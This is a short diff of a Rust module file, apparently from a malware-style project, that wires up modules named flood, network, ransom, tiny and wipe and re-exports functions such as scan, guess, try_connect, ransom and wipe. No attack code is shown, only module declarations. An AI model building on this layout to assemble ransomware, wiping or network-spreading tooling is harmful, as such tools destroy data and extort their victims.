@@ -3,9 +3,10 @@
 mod flood;
 mod network;
 mod ransom;
+mod tiny;
 mod wipe;
 
-pub(crate) use flood::{NOTHING, flood};
+pub(crate) use flood::flood;
 pub(crate) use network::{guess, scan, try_connect};
 pub(crate) use ransom::ransom;
 pub(crate) use wipe::wipe;
